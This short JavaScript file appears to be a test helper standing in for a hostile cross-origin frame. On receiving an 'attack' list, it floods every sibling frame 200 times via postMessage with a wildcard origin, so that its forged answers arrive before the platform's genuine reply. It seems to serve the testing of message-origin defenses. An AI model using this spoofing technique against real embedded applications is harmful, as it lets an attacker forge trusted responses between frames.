"use strict";
// A frame of another origin beside the tool's: it is told what to answer, and does so before the platform does.
addEventListener("message", ({ data }) => {
  if (!Array.isArray(data?.attack)) return;
  for (let count = 0; count < 200; count += 1) {
    for (let place = 0; place < parent.frames.length; place += 1) {
      for (const one of data.attack) parent.frames[place].postMessage(one, "*");
    }
  }
});
